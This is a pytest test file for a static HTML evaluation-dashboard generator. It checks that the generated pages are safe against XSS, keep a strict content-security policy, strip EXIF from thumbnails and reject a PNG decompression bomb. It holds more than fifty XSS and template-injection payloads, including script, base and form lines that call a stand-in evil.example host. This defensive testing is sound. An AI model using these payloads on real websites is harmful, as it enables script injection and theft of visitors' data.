import dataclasses
import itertools
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from pangu.evaluation.dashboard.content import ChainStep, SiteContent
from pangu.evaluation.dashboard.site import PAGES, write_site
from pangu.evaluation.dashboard.thumbnails import Thumbnails

CSP = "default-src 'none'; img-src 'self' data:; style-src 'self'; base-uri 'none'; form-action 'none'"

TAGS = {
    *("html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer", "section", "article"),
    *("a", "p", "h1", "h2", "h3", "span", "small", "strong", "b", "i", "code", "bdi", "br", "div", "figure"),
    *("figcaption", "img", "dl", "dt", "dd", "ol", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "details"),
    *("summary", "svg", "rect", "line", "circle", "polyline", "polygon", "text"),
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</bdi></code><script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '" onerror="alert(1)',
    "' onerror='alert(1)",
    '" onmouseover=alert(1) x="',
    "x onmouseover=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    '" style="position:fixed;inset:0',
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u202c",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "NOT INDEPENDENT<script>alert(1)</script>NOT MEANINGFUL",
    "一只猫<script>alert('猫')</script>",
]


class Nodes(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.nodes: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.nodes.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def nodes_of(page: Path) -> list[tuple[str, dict[str, str | None]]]:
    parser = Nodes()
    parser.feed(page.read_text(encoding="utf-8"))
    parser.close()
    return parser.nodes


def assert_harmless(pages: list[Path]) -> None:
    for page in pages:
        for tag, attributes in nodes_of(page):
            assert tag in TAGS, (page.name, tag, attributes)
            for name, value in attributes.items():
                assert not name.startswith("on") and name != "style", (page.name, tag, attributes)
                if name in ("href", "src"):
                    assert re.fullmatch(r"(\w+\.(html|css)|pictures/[0-9a-f]{24}\.webp|#v\d+)", value), (
                        page.name,
                        value,
                    )


@pytest.mark.reliability(23)
def test_hostile_text_in_every_place_adds_no_executable_node(tmp_path, build_content):
    assert len(PAYLOADS) >= 50
    used: set[str] = set()
    for start in range(0, len(PAYLOADS), 9):
        cycle = itertools.cycle(PAYLOADS[start:] + PAYLOADS[:start])

        def following(cycle=cycle):
            payload = next(cycle)
            used.add(payload)
            return payload

        pages = write_site(tmp_path / "hostile", build_content(following))
        assert_harmless(pages)
        assert "49" not in {word for page in pages for word in re.findall(r"\b49\b", page.read_text())}
    assert used == set(PAYLOADS)


@pytest.fixture(scope="module")
def calm_structure(tmp_path_factory, build_content):
    """The tags of every page with harmless text; the loud words become labels, so they are part of it."""

    def structure(text: str) -> list[list[str]]:
        pages = write_site(tmp_path_factory.mktemp("calm"), build_content(lambda: text))
        return [[tag for tag, _ in nodes_of(page)] for page in pages]

    return {loud: structure("NOT INDEPENDENT NOT MEANINGFUL" if loud else "words") for loud in (False, True)}


@pytest.mark.reliability(23)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_everywhere_at_once_changes_no_structure(tmp_path, build_content, calm_structure, payload):
    pages = write_site(tmp_path, build_content(lambda: payload))
    assert_harmless(pages)
    assert [[tag for tag, _ in nodes_of(page)] for page in pages] == calm_structure["NOT INDEPENDENT" in payload]


@pytest.mark.reliability(23)
def test_every_page_has_the_strict_policy_first_and_no_script(tmp_path, build_content):
    for page in write_site(tmp_path, build_content(lambda: "words")):
        found = nodes_of(page)
        policies = [a["content"] for tag, a in found if tag == "meta" and a.get("http-equiv")]
        assert policies == [CSP]
        first_load = next(i for i, (tag, _) in enumerate(found) if tag in ("link", "img"))
        assert any(a.get("http-equiv") for _, a in found[:first_load])
    assert "url(" not in (tmp_path / "style.css").read_text() and "@import" not in (tmp_path / "style.css").read_text()


@pytest.mark.reliability(23)
def test_thumbnails_carry_pixels_and_nothing_else(tmp_path, build_content):
    write_site(tmp_path, build_content(lambda: "words"))
    thumbnails = list((tmp_path / "pictures").iterdir())
    assert len(thumbnails) == 13
    for path in thumbnails:
        assert b"EXIF-CANARY" not in path.read_bytes()
        with Image.open(path) as image:
            assert image.format == "WEBP" and not image.getexif()


def test_text_in_both_languages_reaches_the_page(tmp_path, build_content):
    texts = itertools.cycle(["两只红色的球在蓝色星星左边", "two red balls left of a blue star"])
    pages = write_site(tmp_path, build_content(lambda: next(texts)))
    assert all("两只红色的球" in page.read_text(encoding="utf-8") for page in pages)
    assert 'lang="zh-Hans"' in (tmp_path / "dataset.html").read_text(encoding="utf-8")


def test_nothing_made_yet_still_gives_every_page(tmp_path):
    pages = write_site(tmp_path, SiteContent(title="t", preset="sample", built_at="now", chain=()))
    assert [page.name for page in pages] == [name for name, _ in PAGES]
    assert "No experts have been trained yet." in (tmp_path / "training.html").read_text()


def test_a_picture_that_does_not_decode_is_a_gap(tmp_path, build_content):
    content = build_content(lambda: "words")
    step = content.chain[1]
    broken = dataclasses.replace(step.picture, image=b"\x89PNG not a picture")
    groups = (dataclasses.replace(content.generation.groups[0], pictures=(broken,)),)
    generation = dataclasses.replace(content.generation, groups=groups)
    changed = dataclasses.replace(content, chain=(ChainStep(step.version, "x", picture=broken),), generation=generation)
    write_site(tmp_path, changed)
    assert "cannot be shown" in (tmp_path / "evaluation.html").read_text()


def test_writing_again_leaves_no_old_thumbnail(tmp_path, build_content):
    write_site(tmp_path, build_content(lambda: "words"))
    write_site(tmp_path, SiteContent(title="t", preset="sample", built_at="now", chain=()))
    assert list((tmp_path / "pictures").iterdir()) == []


def test_a_bomb_is_refused_before_decoding(tmp_path):
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 12000, 12000, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )
    assert Thumbnails(tmp_path / "pictures").add(bomb) is None
